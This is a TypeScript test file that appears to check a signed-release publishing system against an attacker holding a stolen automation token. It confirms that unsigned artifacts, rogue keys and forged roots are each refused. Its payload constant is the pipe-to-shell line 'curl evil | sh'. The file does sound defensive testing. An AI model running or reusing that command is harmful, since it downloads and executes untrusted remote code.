import { describe, expect } from 'vitest';
import type { RuleId } from '../../src/event/reason.ts';
import { drafted, entryOf, files, pushToMain, read, serve, signed, strangeKey } from './attacker.ts';
import { expectStopped, expectUnmoved } from './proofs.ts';
import { attack, type Scene } from './scene.ts';

const EVIL = 'curl evil | sh\n';
const hers = strangeKey('mallory');

/** What a push to main can hold without anybody's key. */
const pushes: readonly (readonly [string, RuleId, (scene: Scene) => Parameters<typeof pushToMain>[1]])[] = [
  ['another artifact', 'artifacts', () => ({ 'targets/tools/greet.sh': EVIL })],
  ['a new artifact', 'artifacts', () => ({ 'targets/tools/new.sh': EVIL })],
  [
    'metadata for it, unsigned',
    'role-quorum',
    ({ world }) => ({
      ...files({
        tools: drafted(read(world, 'tools'), s => void (s.targets['tools/greet.sh'] = entryOf(EVIL))),
      }),
      'targets/tools/greet.sh': EVIL,
    }),
  ],
  [
    'a delegation to a key of her own',
    'role-quorum',
    ({ world }) => ({
      ...files({
        targets: drafted(read(world, 'targets'), ({ delegations }) => {
          delegations.keys[hers.keyid] = hers.raw;
          for (const role of delegations.roles) Object.assign(role, { keyids: [hers.keyid], threshold: 1 });
        }),
        tools: signed(
          drafted(read(world, 'tools'), s => void (s.targets['tools/greet.sh'] = entryOf(EVIL))),
          hers,
        ),
      }),
      'targets/tools/greet.sh': EVIL,
    }),
  ],
  [
    'a root that her key signs',
    'root-quorum',
    ({ world }) => {
      const root = drafted(read(world, 'root'), document => {
        document.keys[hers.keyid] = hers.raw;
        for (const role of Object.values(document.roles))
          Object.assign(role, { keyids: [hers.keyid], threshold: 1 });
      });
      return files({ root: signed(root, hers) });
    },
  ],
  ['a role taken away', 'orphans', () => ({ 'metadata/tools.json': null, 'targets/tools/greet.sh': null })],
  ['no metadata that could be read', 'schema', () => ({ 'metadata/root.json': '{' })],
];

/**
 * Mallory has the automation's token: she may push to any branch, main included, merge anything, and write the site. She has no
 * signing key. She forces whatever she likes and lets the automation run.
 */
describe('a compromised automation token', () => {
  attack('forces everything onto main, and moves no client', async scene => {
    const { world } = scene;
    const client = scene.client();
    await expectUnmoved(scene, client);
    const before = world.remote.sha('main');
    for (const [what, rule, push] of pushes) {
      pushToMain(world, push(scene));
      const online = await scene.signOnline();
      expect([online.done, online.rules.includes(rule)], `${what}: ${online.rules.join(', ')}`).toEqual([
        false,
        true,
      ]);
      expectStopped(await scene.publish(), rule);
      world.remote.git('update-ref', 'refs/heads/main', before);
    }
    await expectUnmoved(scene, client);
  });

  attack('signers see what main has become, and are offered to put it back', async scene => {
    const { world } = scene;
    world.push({ 'targets/tools/greet.sh': 'echo hello again\n' });
    await scene.update();
    pushToMain(world, files({ tools: drafted(read(world, 'tools')) }));
    const bob = await scene.sign('bob', undefined, () => false);
    expect([bob.signed, bob.refusal?.code]).toEqual([[], 'UNTRUSTED']);
    expect(bob.screen).toContain('Open an event that puts back what it held then?');
    expect(world.person('bob').signatures).toBe(0);
  });

  attack('writes the site itself: clients refuse each file by its signatures', async scene => {
    const { world } = scene;
    const client = scene.client();
    await expectUnmoved(scene, client);
    const tools = drafted(read(world, 'tools'), s => void (s.targets['tools/greet.sh'] = entryOf(EVIL)));
    const snapshot = drafted(read(world, 'snapshot'), s => void (s.meta['tools.json'] = { version: 2 }));
    const timestamp = drafted(read(world, 'timestamp'), s => void (s.meta['snapshot.json'] = { version: 2 }));
    await serve(
      scene,
      { tools: signed(tools, hers), snapshot: signed(snapshot, hers), timestamp: signed(timestamp, hers) },
      { 'tools/greet.sh': EVIL },
    );
    expect(await client.download('tools/greet.sh')).toBe('QUORUM');
    expect(await scene.client().download('tools/greet.sh')).toBe('QUORUM');
    expect((await scene.publish()).done).toBe(false);
    expect((await scene.publish({ repair: true })).done).toBe(true); // and it is as before
    await expectUnmoved(scene, client);
  });
});
